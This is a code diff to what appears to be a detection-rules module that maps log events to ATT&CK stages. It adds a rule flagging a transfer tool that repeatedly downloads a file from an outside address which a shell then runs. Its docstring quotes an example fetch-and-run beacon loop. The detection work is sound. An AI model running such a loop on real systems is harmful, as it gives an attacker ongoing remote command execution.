@@ -5221,6 +5221,71 @@ def bind_shell_serves_outside(view: LogView) -> list[StageEvidence]:
     return [cited(view, view.rows_of(shells), view.rows_of(exchange), stage="Command and Control", confidence="moderate", rationale=reason, tactic="TA0011", techniques=("T1059", "T1095"))]
 
 
+# rounds of fetching a file from one outside address and a shell running it that make a
+# pull-and-run loop (three: a script run once or twice is an install or a retry)
+PULL_AND_RUN_ROUNDS = 3
+
+
+def fetched_code_run_in_rounds(view: LogView) -> list[StageEvidence]:
+    """A pull-and-run beacon (T1105 over T1071): a transfer tool (``TRANSFER_TOOLS``: fetch,
+    curl, wget) heard from an outside address and wrote a file that a shell read (ran) in the
+    same minute or the next, in ``PULL_AND_RUN_ROUNDS`` or more distinct minutes, the same
+    file from the same address each time: a loop pulling its next commands (``while :; do
+    fetch -o .t URL; sh .t; sleep 60; done``). A download run once or twice is an install; a
+    loop that never runs what it fetches mirrors a file."""
+    desc = view.desc
+    local = this_host_addresses(view)
+    tools = view.present & view.desc_where("subject_name", lambda n: n.casefold() in TRANSFER_TOOLS, view.present)
+    if not tools.any():
+        return []
+    heard = tools & (desc["event"] == "network_in") & (desc["object_kind"] == "flow")
+    heard &= view.desc_where("object_name", lambda n: n not in PLACEHOLDERS and not _excluded_address(view, n, local), heard)
+    writes = tools & (desc["event"] == "file_write") & (desc["object_kind"] == "file") & ~view.desc_in("object_name", PLACEHOLDERS)
+    if not heard.any() or not writes.any():
+        return []
+    reads = view.present & (desc["event"] == "file_read") & view.desc_in("object_name", view.values("object_name", writes))
+    reads &= view.desc_where("subject_name", lambda n: process_category(n) == "shell", reads)
+    if not reads.any():
+        return []
+
+    def minutes_of(mask: np.ndarray, key: str) -> dict[str, set[int]]:
+        rows = view.rows_of(mask)
+        found: dict[str, set[int]] = {}
+        for code, minute in zip(view._codes[rows].tolist(), view.minutes[rows].tolist()):
+            found.setdefault(desc[key][code], set()).add(minute)
+        return found
+
+    heard_at = minutes_of(heard, "object_name")  # address -> minutes a transfer tool heard from it
+    written_at = minutes_of(writes, "object_name")  # file -> minutes a transfer tool wrote it
+    read_at = minutes_of(reads, "object_name")  # file -> minutes a shell read it
+    # each minute's addresses, so a file's rounds are counted per address over its own
+    # minutes (not a pass over every address for every file: a crafted log of thousands)
+    addresses_at: dict[int, list[str]] = {}
+    for address, minutes in heard_at.items():
+        for minute in minutes:
+            addresses_at.setdefault(minute, []).append(address)
+    loops = []
+    for name, written in sorted(written_at.items()):
+        ran = {m for m in written if m in read_at.get(name, ()) or m + MINUTE_NS in read_at.get(name, ())}
+        if len(ran) < PULL_AND_RUN_ROUNDS:
+            continue
+        rounds_by_address: dict[str, set[int]] = {}
+        for minute in ran:
+            for address in addresses_at.get(minute, ()):
+                rounds_by_address.setdefault(address, set()).add(minute)
+        loops += [(name, address, rounds) for address, rounds in sorted(rounds_by_address.items()) if len(rounds) >= PULL_AND_RUN_ROUNDS]
+    if not loops:
+        return []
+    names, addresses = {n for n, _, _ in loops}, {a for _, a, _ in loops}
+    rounds = max(len(r) for *_, r in loops)
+    cited_rows = (heard & view.desc_in("object_name", addresses)) | (writes & view.desc_in("object_name", names)) | (reads & view.desc_in("object_name", names))
+    reason = (
+        f"{_names(view.values('subject_name', writes & view.desc_in('object_name', names)))} fetched {_names(names)} from {_names(addresses)} (not internal) "
+        f"and {_names(view.values('subject_name', reads & view.desc_in('object_name', names)))} ran it, in {rounds} distinct minutes: a loop pulling its next commands from that address."
+    )
+    return [cited(view, view.rows_of(cited_rows), stage="Command and Control", confidence="moderate", rationale=reason, tactic="TA0011", techniques=("T1105", "T1071"))]
+
+
 # the programs that make a named pipe (a FIFO) in the file system
 FIFO_MAKERS = frozenset({"mkfifo", "mknod"})
 # how soon after the relay wrote what it heard the shell reads it
@@ -10528,4 +10593,4 @@ def planted_com_server(view: LogView) -> list[StageEvidence]:
     return [cited(view, *rows, stage="Maintain Persistence", confidence=confidence, rationale=reason, tactic="TA0003", techniques=("T1546.015",))]
 
 
-RULES = (sweep_rule, command_and_control, scripted_credential_access, credential_harvest, planted_library_loaded, planted_system_library_loaded, planted_com_server, ingress_then_run, channel_to_the_delivering_server, session_client_forwarding, session_client_relays_a_remote_forward, install_runs_channel_holder, client_runs_unknown_program, client_drops_executable, client_archive_extracted_and_run, client_image_opened_and_run, client_launcher_opened, office_macro_via_wmi, wmi_subscription_fires, wmi_subscription_fires_on_a_timer, password_guessing_then_login, remote_desktop_session_survey, remote_desktop_through_a_tunnel, web_server_shell_discovery, web_server_reverse_shell, operator_commands_over_a_channel, downloaded_kernel_module_loaded, server_shell_runs_fetched_code, server_shell_survey, dropped_program_calls_home, server_shell_calls_back, web_shell_planted, server_page_planted, shell_on_an_inherited_connection, shell_fed_through_a_fifo, bind_shell_serves_outside, chain_process_converses_outside, system_program_replaced, server_shell_adds_account, service_writes_ssh_keys, net_command_changes_an_account, covering_tracks, file_search_feeds_collection, discovery, host_survey_by_reads, network_sniffing, lateral_movement, remote_task_target, remote_session_writes_program, channel_relays_to_site_hosts, own_image_copied_out, sudo_shell_escape, run_as_for_an_unknown_program, run_as_plants_a_triggered_program, run_as_starts_a_dropped_program, job_table_for_an_unknown_program, job_table_after_a_dropped_program, shell_copied_and_armed, cron_runs_hidden_program, cron_reads_planted_table, desktop_entry_for_hidden_program, job_table_for_hidden_program, boot_service_for_hidden_program, cron_job_pipes_remote_code_into_a_shell, init_script_planted_by_unknown_program, staged_data_shredded, logs_edited_or_times_reset, persistence_written_then_touched, event_logs_cleared_by_the_service, exploit_gives_root_shell, kernel_symbols_then_shell, hijacked_auto_elevator, environment_hijacked_task, credential_hives_saved, run_as_binary_tampered_then_shell, mapped_account_database_then_root_login, injected_system_process, token_taken_from_system_process, local_server_then_shell, service_shell_feeds_a_pipe, one_shot_shell_service_then_token, planted_trigger_runs_program, service_runs_planted_program, service_registered_for_written_program, program_installs_itself_as_service, autostart_launches_attack_program, startup_shortcut_runs_planted_program, exfiltration, pipeline_exfiltration, install_script_steals_secrets, keystrokes_captured)
+RULES = (sweep_rule, command_and_control, scripted_credential_access, credential_harvest, planted_library_loaded, planted_system_library_loaded, planted_com_server, ingress_then_run, channel_to_the_delivering_server, session_client_forwarding, session_client_relays_a_remote_forward, install_runs_channel_holder, client_runs_unknown_program, client_drops_executable, client_archive_extracted_and_run, client_image_opened_and_run, client_launcher_opened, office_macro_via_wmi, wmi_subscription_fires, wmi_subscription_fires_on_a_timer, password_guessing_then_login, remote_desktop_session_survey, remote_desktop_through_a_tunnel, web_server_shell_discovery, web_server_reverse_shell, operator_commands_over_a_channel, downloaded_kernel_module_loaded, server_shell_runs_fetched_code, server_shell_survey, dropped_program_calls_home, server_shell_calls_back, web_shell_planted, server_page_planted, shell_on_an_inherited_connection, shell_fed_through_a_fifo, bind_shell_serves_outside, fetched_code_run_in_rounds, chain_process_converses_outside, system_program_replaced, server_shell_adds_account, service_writes_ssh_keys, net_command_changes_an_account, covering_tracks, file_search_feeds_collection, discovery, host_survey_by_reads, network_sniffing, lateral_movement, remote_task_target, remote_session_writes_program, channel_relays_to_site_hosts, own_image_copied_out, sudo_shell_escape, run_as_for_an_unknown_program, run_as_plants_a_triggered_program, run_as_starts_a_dropped_program, job_table_for_an_unknown_program, job_table_after_a_dropped_program, shell_copied_and_armed, cron_runs_hidden_program, cron_reads_planted_table, desktop_entry_for_hidden_program, job_table_for_hidden_program, boot_service_for_hidden_program, cron_job_pipes_remote_code_into_a_shell, init_script_planted_by_unknown_program, staged_data_shredded, logs_edited_or_times_reset, persistence_written_then_touched, event_logs_cleared_by_the_service, exploit_gives_root_shell, kernel_symbols_then_shell, hijacked_auto_elevator, environment_hijacked_task, credential_hives_saved, run_as_binary_tampered_then_shell, mapped_account_database_then_root_login, injected_system_process, token_taken_from_system_process, local_server_then_shell, service_shell_feeds_a_pipe, one_shot_shell_service_then_token, planted_trigger_runs_program, service_runs_planted_program, service_registered_for_written_program, program_installs_itself_as_service, autostart_launches_attack_program, startup_shortcut_runs_planted_program, exfiltration, pipeline_exfiltration, install_script_steals_secrets, keystrokes_captured)
